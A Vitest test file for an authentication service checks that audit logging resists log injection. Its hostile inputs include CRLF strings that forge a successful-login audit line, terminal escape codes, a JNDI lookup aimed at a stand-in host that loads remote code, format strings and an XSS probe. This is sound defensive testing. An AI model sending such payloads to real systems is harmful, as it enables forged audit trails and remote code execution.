import { describe, expect, it } from 'vitest';
import { databases } from '../support/databases.js';
import { hosted } from '../support/hosted.js';
import { PASSWORD } from '../support/people.js';
import { raw } from './raw.js';

/** As bytes on the wire: each character is one byte of a header. */
const hostile = [
  '\x1b[2J\x1b[31mred',
  '\x9b31m C1',
  '\x85next line',
  '\x7fdelete',
  'tab\there',
  'a","outcome":"success","actor":"admin',
  '\\r\\n[Nest] LOG [AuthAudit] {"action":"login","outcome":"success"}',
  '%0d%0aLOG',
  '\xe2\x80\xa8line separator in UTF-8',
  '${jndi:ldap://evil.example/a}',
  '%s%d%o%j%%',
  '<script>alert(1)</script>',
  'x'.repeat(5000),
];

const FORGED = 'zoe\r\n[AuthAudit] {"action":"login","outcome":"success"}\u2028\u0085\x1b[2J';

describe.each(databases)('what is recorded, on $name,', (database) => {
  const host = hosted({ database });

  /** What stands in no line of a log: breaks, escapes, other control characters. */
  const BREAKS = /[\p{Cc}\p{Cs}\u2028\u2029]/u;

  const audited = () => host.log.lines.filter((line) => line.includes('AuthAudit'));

  it('T-27 log injection: each event is one line of JSON, whatever the client calls itself', async () => {
    const { username } = await host.people.person();
    const before = audited().length;
    for (const text of hostile) {
      for (const password of [PASSWORD, 'wrong']) {
        const body = JSON.stringify({ username, password });
        const headers = [
          'Content-Type: application/json',
          `User-Agent: ${text}`,
          `X-Correlation-Id: ${text}`,
          `X-Current-App: ${text}`,
        ];
        const { status } = await raw(host.url, { method: 'POST', target: '/login', headers, body });
        // Node itself refuses some of them.
        expect([200, 400, 401]).toContain(status);
      }
    }
    const lines = audited().slice(before);
    expect(lines.length).toBeGreaterThan(15);
    for (const line of lines) {
      expect(line).not.toMatch(BREAKS);
      const event: unknown = JSON.parse(line.slice(line.indexOf('{'), line.lastIndexOf('}') + 1));
      expect(event).toMatchObject({ action: 'login', outcome: expect.stringMatching(/^(success|failure)$/) });
    }
    for (const row of await host.rows.all('sso_audit_event')) {
      for (const value of Object.values(row)) expect(String(value)).not.toMatch(BREAKS);
      expect(String(row.user_agent).length).toBeLessThanOrEqual(255);
    }
  });

  it('T-27 log injection: a user name of several lines writes none of them', async () => {
    const before = host.log.lines.length;
    const admin = await host.people.signIn(await host.people.superUser());
    for (const client of ['form', 'json'] as const) {
      await host.visitor(client).login({ username: FORGED, password: PASSWORD });
      await host
        .visitor(client)
        .register({ username: FORGED, password: PASSWORD, confirm_password: PASSWORD });
    }
    await admin.api('POST', '/users', { username: FORGED, display_name: FORGED });
    await admin.get(`/users?q=${encodeURIComponent(FORGED)}`);
    await admin.api('POST', `/users/${encodeURIComponent(FORGED)}/lock`);
    for (const line of host.log.lines.slice(before)) {
      expect(line).not.toMatch(BREAKS);
      expect(line.match(/\[?AuthAudit/g)?.length ?? 0).toBeLessThanOrEqual(1);
    }
  });

  it('T-27 log injection: what the service is told of a caller is treated alike', async () => {
    const { username } = await host.people.person();
    const before = audited().length;
    const strange = `a\r\nb\u2028c\u0000d\ud800e\x1b[0m`;
    const caller = {
      remoteAddress: strange,
      userAgent: strange,
      correlationId: strange,
      currentApp: strange,
    };
    await host.service.login({ username, password: PASSWORD }, caller);
    await expect(host.service.login({ username, password: 'wrong' }, caller)).rejects.toMatchObject({
      code: 'invalid_credentials',
    });
    const lines = audited().slice(before);
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line).not.toMatch(BREAKS);
  });
});
